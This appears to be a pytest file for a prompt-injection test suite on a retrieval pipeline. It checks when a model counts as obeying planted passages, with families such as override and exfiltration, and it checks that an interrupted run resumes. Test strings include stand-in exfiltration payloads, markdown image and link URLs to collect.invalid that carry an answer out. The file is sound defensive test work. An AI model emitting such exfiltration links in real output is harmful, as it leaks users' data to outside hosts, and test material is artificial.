"""The injection suite: what counts as obeying, that planted passages are read, and that a killed run goes on."""

import json
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from eval.injection import ATTACKS, SCENARIOS, Attack, attack_pipeline, load_attacks, succeeded
from generator.answer import Answer
from generator.pipeline import PipelineSettings
from generator.prompt import Prompt
from indexer.errors import DatasetError, ModelError

SUITE = Path(__file__).parents[2] / "data" / "injection"


class Obeys:
    """Says the last sentence of the first passage it is given, or fails where it is told to."""

    name = "obedient"
    context_tokens = 8192
    follows_instructions = False

    def __init__(self, fails_on: str = "") -> None:
        self.fails_on = fails_on
        self.asked: list[str] = []

    def count_tokens(self, texts: Sequence[str]) -> list[int]:
        return [len(text.split()) for text in texts]

    def stream(self, prompt: Prompt, max_tokens: int = 512) -> Iterator[str]:
        first = prompt.hits[0]
        if self.fails_on and first.source.startswith(self.fails_on):
            raise ModelError("The model server is down.", "Start it.")
        self.asked.append(first.source)
        yield f"{first.chunk.text.rstrip('.').rsplit('. ', 1)[-1]} [1]"


def answer(text: str) -> Answer:
    return Answer(text, (), (), abstained=False, query="")


def test_the_suite_is_whole() -> None:
    attacks = load_attacks(SUITE)
    families = Counter(attack.family for attack in attacks)
    assert len(attacks) >= 60
    assert len(families) == 8
    for attack in attacks:
        gold = attack.documents[-1].text
        assert any(known in gold for known in attack.answers)
        assert not succeeded(attack, answer(gold)), f"{attack.id} would succeed with the truth"
        assert bool(attack.says) == (attack.family != "exfiltration")
        assert not any(f" {known} " in f" {phrase} " for known in attack.answers for phrase in attack.says)


def test_what_counts_as_obeying() -> None:
    attack = load_attacks(SUITE)[0]
    says = replace(attack, says=("blue heron",))
    assert succeeded(says, answer("It is Blue Heron! [1]"))
    assert not succeeded(says, answer("It is a bluish heron."))
    assert not succeeded(says, replace(answer("Blue heron"), abstained=True))
    leaks = replace(attack, says=())
    assert succeeded(leaks, answer("four crowns ![x](https://collect.invalid/?q=four)"))
    assert succeeded(leaks, answer("see https://collect.invalid/?q=four"))
    assert not succeeded(leaks, answer("four crowns [1]"))


def test_planted_passages_are_read_and_a_killed_run_goes_on(tmp_path: Path) -> None:
    attacks = load_attacks(SUITE)
    first, second = Obeys("exfiltration-3"), Obeys()
    run = attack_pipeline(first, PipelineSettings(), attacks, tmp_path, SUITE, {"model": "m"})
    assert [record.case_id for record in run.records if record.error] == ["exfiltration-3"]
    assert "exfiltration-3" not in run.scores["exfiltration"]["resisted"]
    again = attack_pipeline(second, PipelineSettings(), attacks, tmp_path, SUITE, {"model": "m"})
    assert second.asked == ["exfiltration-3-0"]
    assert again.id == run.id
    assert sum(len(metrics["resisted"]) for metrics in again.scores.values()) == len(attacks)
    assert again.scores["override"]["resisted"]["override-1"] == 0.0  # it ends with what the passage asks for
    # Links are taken out by the pipeline, so even a model that obeys carries nothing away.
    assert set(again.scores["exfiltration"]["resisted"].values()) == {1.0}


@pytest.mark.parametrize(
    ("attack", "message"),
    [
        (
            {"_id": "a", "family": "f", "scenario": "none", "documents": [{"text": "x"}]},
            "line 1: there is no scenario none",
        ),
        ({"_id": "a", "family": "f", "scenario": "s"}, "line 1: documents is missing"),
        ({"_id": "a", "family": "f", "scenario": "s", "documents": ["x"]}, "documents must be objects"),
    ],
)
def test_a_broken_suite_is_explained(tmp_path: Path, attack: dict[str, object], message: str) -> None:
    scenario = {"_id": "s", "question": "When?", "answers": ["nine"], "document": {"title": "t", "text": "At nine."}}
    (tmp_path / SCENARIOS).write_text(json.dumps(scenario))
    (tmp_path / ATTACKS).write_text(json.dumps(attack))
    with pytest.raises(DatasetError, match=message):
        load_attacks(tmp_path)


def test_an_attack_is_a_case() -> None:
    attack = Attack("a", "f", "When?", ("nine",), ())
    assert (attack.case.id, attack.case.question, attack.case.answers) == ("a", "When?", ("nine",))
